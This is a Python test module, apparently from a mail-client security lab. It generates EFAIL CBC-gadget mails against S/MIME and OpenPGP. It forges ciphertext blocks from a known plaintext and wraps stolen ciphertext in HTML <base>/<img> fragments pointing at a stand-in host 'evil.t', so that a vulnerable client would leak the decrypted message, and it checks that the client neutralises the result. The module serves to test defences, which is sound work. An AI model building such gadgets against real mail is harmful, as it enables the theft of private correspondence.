"""
CBC gadgets (EFAIL, CVE-2017-17689): from one block of stolen ciphertext whose plaintext is known, blocks of any
plaintext are made, and put around the stolen ones.

What is changed is true ciphertext; how each mail would read if it were opened and shown as it is, is EFAIL's.
"""

from collections.abc import Iterator, Sequence
from dataclasses import replace

from lab.attacks import cms, forms, openpgp, ways
from lab.attacks.mail import Case, Gets, Mail
from lab.attacks.people import DOC, OWN

_BLOCK = 16
_KNOWN = b"Content-Type: te"  # what nearly all such content begins with
_MULTIPART = b"Content-Type: mu"
_FRONT = (b'<base ignore="  ', b'" href="http:"> ', b'<img ignore="   ', b'" src="//evil.t/')
_BACK = (b'">              ',)


def gadgets() -> Iterator[Mail]:
    """Give mail in CBC with gadgets in it: it may be opened harmlessly, or not at all."""
    for name, about, entity, options in (
        ("html", "an image around HTML", forms.html, ()),
        ("text", "an image around plain text", forms.text, ()),
        ("html-aes128", "AES-128", forms.html, ("aes128-cbc",)),
        ("html-aes192-stream", "AES-192, streamed", forms.html, ("aes192-cbc", "stream")),
        ("domain-key", "for the domain's key", forms.html, ("aes256-cbc", OWN)),
        ("html-base64", "in HTML in base64", _base64, ()),
        ("html-quoted", "in HTML as quoted-printable", _quoted, ()),
        ("multipart", "in a multipart", _multipart, ()),
    ):
        case = Case.of("cbc-gadget", name)
        cipher = options[0] if options else "aes256-cbc"
        stolen = cms.envelope(case.chance, entity(_words(case)), cipher, OWN if OWN in options else DOC)
        known = _MULTIPART if name == "multipart" else _KNOWN
        made = ways.enclosed(injected(stolen, known, _FRONT, _BACK), stream="stream" in options)
        yield case.mail(about, case.letter(made), _harmless())
    yield from _others()


def _others() -> Iterator[Mail]:
    """Give mail whose header is changed, whose blocks are, or whose mode is."""
    case, stolen = _stolen("first-block", "aes256-cbc")
    changed = replace(stolen, start=_xor(_xor(stolen.start, _KNOWN), b"Content-type: mu"))
    yield case.mail("the first block made another", case.letter(ways.enclosed(changed)), _harmless())

    case, stolen = _stolen("no-header", "aes256-cbc")
    pairs = _pairs(stolen, _KNOWN, (b'\r\n\r\n<base href="', *_FRONT[2:]))
    changed = replace(stolen, start=pairs[0], content=b"".join(pairs[1:]) + stolen.start + stolen.content)
    yield case.mail("gadgets in the place of the header", case.letter(ways.enclosed(changed)), _harmless())

    case, stolen = _stolen("a-block-left-out", "aes256-cbc")
    changed = replace(stolen, content=stolen.content[: 4 * _BLOCK] + stolen.content[5 * _BLOCK :])
    yield case.mail("one block left out", case.letter(ways.enclosed(changed)), _harmless())

    case, stolen = _stolen("a-bit-changed", "aes256-cbc")
    place = 5 * _BLOCK
    octets = stolen.content[:place] + bytes([stolen.content[place] ^ 1]) + stolen.content[place + 1 :]
    yield case.mail("one bit changed", case.letter(ways.enclosed(replace(stolen, content=octets))), _harmless())

    case, stolen = _stolen("gcm-called-cbc", "aes256-gcm")
    size = len(stolen.content) // _BLOCK * _BLOCK
    relabelled = cms.Envelope(stolen.infos, "aes256-cbc", stolen.start + b"\0\0\0\2", stolen.content[:size])
    gets = Gets(("smime", "no"), one_of=("neutralised", "undecryptable"), hidden=(case.secret,), inert=True)
    yield case.mail("content in GCM, relabelled as CBC", case.letter(ways.enclosed(relabelled)), gets)

    case = Case.of("cbc-gadget", "openpgp-cfb")
    message = openpgp.encrypted(case.chance, openpgp.literal(forms.html(_words(case))), DOC)
    place = 18 + 6 + 6 + len(_KNOWN)  # behind the prefix, the packet's head and what is known of the header
    flipped = _xor(message.content[place : place + 16], b"xt/html; charset")
    content = message.content[:place] + _xor(flipped, b"xt/xhtml;charset") + message.content[place + 16 :]
    entity = forms.pgp_encrypted(replace(message, content=content).armor())
    gets = Gets(flags=("undecryptable",), as_it_came=True, hidden=(case.secret,))
    yield case.mail("the same in OpenPGP's CFB, under its MDC", case.letter(entity), gets)


def injected(stolen: cms.Envelope, known: bytes, front: Sequence[bytes], back: Sequence[bytes]) -> cms.Envelope:
    """
    Put plaintexts of a block each before and behind the stolen content, its own first blocks first of all.

    `known` is the plaintext of its first block.
    """
    head = stolen.content[: 3 * _BLOCK]
    before, behind = b"".join(_pairs(stolen, known, front)), b"".join(_pairs(stolen, known, back))
    # at the end stand the stolen content's last two blocks once more: its padding is good
    content = head + before + stolen.start + stolen.content + behind + stolen.content[-2 * _BLOCK :]
    return replace(stolen, content=content)


def _pairs(stolen: cms.Envelope, known: bytes, chunks: Sequence[bytes]) -> list[bytes]:
    """Make two blocks for each chunk of plaintext: the first decrypts to rubbish, the second to the chunk."""
    first = stolen.content[:_BLOCK]
    return [block for chunk in chunks for block in (_xor(_xor(stolen.start, known), chunk), first)]


def _stolen(name: str, cipher: str) -> tuple[Case, cms.Envelope]:
    case = Case.of("cbc-gadget", name)
    return case, cms.envelope(case.chance, forms.html(_words(case)), cipher, DOC)


def _words(case: Case) -> str:
    return f"<p>Dear doctor, {case.secret}, and more words that nobody else should read. Yours, Kim</p>"


def _base64(words: str) -> bytes:
    return forms.in_base64("text/html; charset=utf-8", words.encode())


def _quoted(words: str) -> bytes:
    return forms.quoted("text/html; charset=utf-8", words.encode())


def _multipart(words: str) -> bytes:
    return forms.parts("mixed", forms.html(words), forms.text("a second part"))


def _harmless() -> Gets:
    return Gets(("smime", "no"), one_of=("neutralised", "undecryptable"), inert=True)


def _xor(one: bytes, other: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(one, other, strict=True))
